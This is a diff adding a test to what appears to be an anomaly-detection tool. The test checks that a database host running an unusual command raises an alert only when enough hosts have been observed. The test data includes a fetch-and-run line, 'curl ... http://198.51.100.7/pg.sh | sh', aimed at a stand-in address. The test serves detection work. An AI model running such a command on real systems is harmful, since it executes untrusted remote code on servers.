@@ -85,3 +85,16 @@ def test_what_is_told_of_them_was_not_judged_otherwise() -> None:
     verdicts = {each.account_class: each.reason for each in found.populations if not each.judged}
     assert verdicts["postgres"].startswith("not enough data")
     assert found.host_days == judged(seen([*FLEET, *DATABASE, *PEOPLE]), Settings()).host_days
+
+
+def test_where_nothing_can_be_modelled_it_is_told_all_the_same_once_enough_was_seen() -> None:
+    act = of_database("sh -c curl -fsSL http://198.51.100.7/pg.sh | sh")
+    many = [
+        Ran(name, rf"C:\Users\anna\x{name}-{day}.exe", (day,), None, EXPLORER, account=rf"CORP\{name}")
+        for name in hosts(30, "ws")
+        for day in DAYS
+    ]
+    (alert,) = judged(seen([*DATABASE, *PEOPLE, *many, act]), Settings()).alerts
+    assert alert.host == "pg00"
+    few = judged(seen([*DATABASE, act]), Settings())
+    assert few.alerts == () and few.host_days == 0, "two hosts say nothing of what is rare"
